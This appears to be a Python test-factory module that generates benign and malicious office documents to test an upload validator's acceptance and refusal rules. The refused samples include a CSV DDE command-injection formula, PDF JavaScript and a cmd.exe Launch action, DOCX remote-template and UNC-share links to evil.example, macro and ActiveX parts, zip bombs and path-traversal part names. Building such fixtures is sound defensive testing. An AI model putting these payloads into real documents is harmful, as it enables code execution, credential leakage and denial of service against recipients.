"""Documents, good and evil, made by code: the corpus of files that strangers could attach."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Mapping
from functools import cache

import openpyxl
import xlsxwriter

from tests.factories import pictures
from tests.factories.pictures import PAYLOAD, Upload

ODT_TYPE = "application/vnd.oasis.opendocument.text"
_OPEN_XML = "application/vnd.openxmlformats-officedocument"
WORD, SHEET = f"{_OPEN_XML}.wordprocessingml.document.main+xml", f"{_OPEN_XML}.spreadsheetml.sheet.main+xml"
SLIDES = f"{_OPEN_XML}.presentationml.presentation.main+xml"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def packed(parts: Mapping[str, str | bytes], stored: tuple[str, ...] = ("mimetype",)) -> bytes:
    """Return a package of parts, in their order."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content, zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED)
    return target.getvalue()


def odt(kind: str = ODT_TYPE, manifest: str = "<manifest/>", **more: str | bytes) -> bytes:
    """Return a text document of LibreOffice; further parts are named `folder__file`."""
    parts = {"mimetype": kind, "content.xml": "<text>Zadání</text>", "META-INF/manifest.xml": manifest}
    return packed({**parts, **_named(more)})


def docx(kind: str = WORD, relations: str = "", **more: str | bytes) -> bytes:
    """Return a text document of Word."""
    parts = {
        "[Content_Types].xml": f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>',
        "_rels/.rels": "<Relationships/>",
        "word/document.xml": "<w:document>Zadání</w:document>",
        "word/_rels/settings.xml.rels": f"<Relationships>{relations}</Relationships>",
    }
    return packed({**parts, **_named(more)})


def _named(parts: Mapping[str, str | bytes]) -> dict[str, str | bytes]:
    return {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}


def xlsx() -> bytes:
    """Return a workbook as openpyxl writes it."""
    book, target = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["Obec", "Cena"])
    book.save(target)
    return target.getvalue()


def other_xlsx() -> bytes:
    """Return a workbook as XlsxWriter writes it, with a link and a chart."""
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target)
    sheet = book.add_worksheet()
    sheet.write_column(0, 0, [1, 2, 3])
    sheet.write_url(4, 0, "https://www.example.cz/")
    chart = book.add_chart({"type": "line"})
    chart.add_series({"values": "=Sheet1!$A$1:$A$3"})
    sheet.insert_chart(5, 1, chart)
    book.close()
    return target.getvalue()


def pdf(inside: bytes = b"", *, trailer: bytes = b"", before: bytes = b"", after: bytes = b"") -> bytes:
    """Return a PDF of one page; `inside` is one more object, `trailer` stands among its last words."""
    objects = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R>>"]
    body, places = before + b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, content in enumerate([*objects, *([inside] if inside else [])], 1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n%s" % (len(places) + 1, table)
    return body + b"trailer\n<</Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (trailer, start) + after


def in_object_stream(content: bytes, packing: bytes = b"/Filter/FlateDecode", *, plain: bool = False) -> bytes:
    """Return a PDF one of whose objects is packed away."""
    stream = content if plain else zlib.compress(content)
    return pdf(b"<</Type/Obj#53tm/N 1/First 4%s/Length %d>>\nstream\n%s\nendstream" % (packing, len(stream), stream))


@cache
def bomb(size: int) -> bytes:
    """Return a Word document whose text unpacks to very much."""
    return docx(word__huge_dot_xml=bytes(size))


def lying() -> bytes:
    """Return a package whose list names a smaller size than the part has."""
    whole = bytearray(docx(word__huge_dot_xml=bytes(1 << 20)))
    for place in (whole.index(b"word/huge.xml") - 30 + 22, whole.rindex(b"word/huge.xml") - 46 + 24):
        whole[place : place + 4] = struct.pack("<I", 100)
    return bytes(whole)


def locked_package() -> bytes:
    """Return a package whose parts say that they are encrypted."""
    whole = bytearray(docx())
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := whole.find(mark, start + 1)) >= 0:
            whole[start + place] |= 1
    return bytes(whole)


def renamed(old: bytes, new: bytes) -> bytes:
    """Return a Word document one of whose parts bears another name of the same length."""
    assert len(old) == len(new)
    return docx(word__styles_dot_xml="<s/>").replace(old, new)


def many_parts() -> bytes:
    """Return a package of very many empty parts."""
    return docx(**{f"word__{number}_dot_xml": "" for number in range(5001)})


def remote(kind: str, target: str) -> bytes:
    """Return a Word document that fetches a part of itself from elsewhere."""
    relation = f'<Relationship Id="r1" Type="http://schemas/{kind}" Target="{target}" TargetMode="External"/>'
    return docx(relations=relation)


TABLE = "Obec;Počet čidel;Cena\nŽďár;5;120 000\nŠumperk;7;-3,5\n"
JS = b"<</S/JavaScript/JS(app.alert(1))>>"
Maker = Callable[[], bytes]

TAKEN = {
    "pdf": (
        ("plain.pdf", pdf),
        ("named.exe", pdf),
        ("packed.pdf", lambda: in_object_stream(b"<</Type/Metadata>>")),
        ("scan.pdf", lambda: pictures.saved(pictures.picture(), "PDF")),
        ("opens-at-page.pdf", lambda: pdf(trailer=b"/OpenAction[3 0 R/Fit]")),
    ),
    "odt": (("plain.odt", odt), ("pictures.odt", lambda: odt(Pictures__1_dot_png=pictures.png()))),
    "docx": (
        ("plain.docx", docx),
        ("link.docx", lambda: remote("hyperlink", "https://www.example.cz/")),
        ("template.docx", lambda: remote("attachedTemplate", "file:///C:\\Users\\Sablony\\Normal.dotm")),
    ),
    "xlsx": (("openpyxl.xlsx", xlsx), ("xlsxwriter.xlsx", other_xlsx)),
    "csv": (
        ("utf8.csv", TABLE.encode),
        ("mark.csv", lambda: TABLE.encode("utf-8-sig")),
        ("windows.csv", lambda: TABLE.encode("cp1250")),
        ("commas.csv", lambda: b'a,"b, with a comma",c\r\n1,2,3\r\n'),
        ("tabs.csv", lambda: b"a\tb\n1\t2\n"),
    ),
}
"""What is taken, by its kind."""
REFUSED = (
    Upload("empty.pdf", lambda: b"", "empty"),
    Upload("text.pdf", lambda: b"Dobry den, posilam smlouvu.", "not_a_document"),
    Upload("page.html", lambda: b"<!doctype html><table>;;\n;;</table>" + PAYLOAD, "not_a_document"),
    Upload("drawing.csv", lambda: b"  <svg onload='a;b'>\n;", "not_a_document"),
    Upload("nulls.csv", lambda: b"a;b\n1;\0\n", "not_a_document"),
    Upload("utf16.csv", lambda: TABLE.encode("utf-16"), "other_letters"),
    Upload("formula.csv", lambda: b"a;b\n1;=HYPERLINK(\"http://x\")\n", "formulas"),
    Upload("dde.csv", lambda: b"a;b\n1;+cmd|' /C calc'!A0\n", "formulas"),
    Upload("at.csv", lambda: b"a;b\n1; @SUM(1)\n", "formulas"),
    Upload("one-column.csv", lambda: b"a\nb\nc\n", "not_a_document"),
    Upload("program.exe", lambda: b"MZ" + b"\0" * 200, "not_a_document"),
    Upload("old.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_or_locked"),
    Upload("half.pdf", lambda: pdf()[:-90], "damaged"),
    Upload("header-only.pdf", lambda: b"%PDF-1.7\n", "damaged"),
    Upload("script.pdf", lambda: pdf(JS), "active"),
    Upload("hidden-name.pdf", lambda: pdf(b"<</S/J#61va#53cript/JS(1)>>"), "active"),
    Upload("packed-script.pdf", lambda: in_object_stream(JS), "active"),
    Upload("packed-broken.pdf", lambda: in_object_stream(zlib.compress(JS)[:-4], plain=True), "active"),
    Upload("packed-oddly.pdf", lambda: in_object_stream(JS, b"/Filter[/ASCIIHexDecode/FlateDecode]"), "damaged"),
    Upload("packed-bomb.pdf", lambda: in_object_stream(bytes(80 << 20)), "too_demanding"),
    Upload("launch.pdf", lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "active"),
    Upload("attached.pdf", lambda: pdf(b"<</Names<</EmbeddedFiles 5 0 R>>>>"), "active"),
    Upload("form.pdf", lambda: pdf(b"<</XFA 5 0 R>>"), "active"),
    Upload("locked.pdf", lambda: pdf(trailer=b"/Encrypt 4 0 R"), "locked"),
    Upload("pdf-and-zip.pdf", lambda: pdf(after=pictures.zipped()), "damaged"),
    Upload("pdf-in-disguise.pdf", lambda: pdf(after=pictures.zipped() + b"\nstartxref\n0\n%%EOF\n"), "two_in_one"),
    Upload("pdf-and-html.pdf", lambda: pdf(after=PAYLOAD), "damaged"),
    Upload("html-and-pdf.pdf", lambda: pdf(before=PAYLOAD + b"\n"), "not_a_document"),
    Upload("archive.zip", pictures.zipped, "not_a_document"),
    Upload("half.docx", lambda: docx()[:-200], "two_in_one"),
    Upload("docx-and-more.docx", lambda: docx() + PAYLOAD, "two_in_one"),
    Upload("two-packages.docx", lambda: pictures.zipped() + docx(), "two_in_one"),
    Upload("macros.docm", lambda: docx(MACROS), "active"),
    Upload("vba.docx", lambda: docx(word__vbaProject_dot_bin=b"x"), "active"),
    Upload("activex.docx", lambda: docx(word__activeX__activeX1_dot_xml="<x/>"), "active"),
    Upload("object.docx", lambda: docx(word__embeddings__oleObject1_dot_bin=b"x"), "active"),
    Upload("remote-template.docx", lambda: remote("attachedTemplate", "https://evil.example/t.dotm"), "active"),
    Upload("remote-share.docx", lambda: remote("oleObject", "\\\\evil.example\\share"), "active"),
    Upload("entities.docx", lambda: docx(word__footer_dot_xml='<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "active"),
    Upload("sixteen.docx", lambda: docx(word__footer_dot_xml="<x/>".encode("utf-16")), "damaged"),
    Upload("slides.pptx", lambda: docx(SLIDES), "other_office"),
    Upload("two-kinds.docx", lambda: docx(f'{WORD}"/><Override ContentType="{SHEET}'), "damaged"),
    Upload("locked.docx", locked_package, "locked"),
    Upload("climbing.docx", lambda: renamed(b"word/styles.xml", b"../../tyles.xml"), "damaged"),
    Upload("rooted.docx", lambda: renamed(b"word/styles.xml", b"/ord/styles.xml"), "damaged"),
    Upload("twice.docx", lambda: renamed(b"word/styles.xml", b"_rels/.rels\0xml"), "damaged"),
    Upload("bomb.docx", lambda: bomb(300 << 20), "too_demanding"),
    Upload("list-bomb.docx", lambda: docx(word___rels__x_dot_rels=bytes(3 << 20)), "too_demanding"),
    Upload("lying.docx", lying, "damaged"),
    Upload("crowd.docx", many_parts, "too_demanding"),
    Upload("checksum.docx", lambda: docx().replace(b"PK\x01\x02\x14\x03\x14\0\0\0\x08\0", b"PK\x01\x02\x14\x03\x14\0\0\0\0\0"), "damaged"),
    Upload("macros.odt", lambda: odt(Basic__Standard__Module1_dot_xml="<x/>"), "active"),
    Upload("scripts.odt", lambda: odt(Scripts__python__a_dot_py="import os"), "active"),
    Upload("locked.odt", lambda: odt(manifest="<manifest><manifest:encryption-data/></manifest>"), "locked"),
    Upload("table.ods", lambda: odt("application/vnd.oasis.opendocument.spreadsheet"), "other_office"),
    Upload("book.epub", lambda: odt("application/epub+zip"), "not_a_document"),
    Upload("no-content.odt", lambda: packed({"mimetype": ODT_TYPE, "META-INF/manifest.xml": "<m/>"}), "damaged"),
)  # fmt: skip
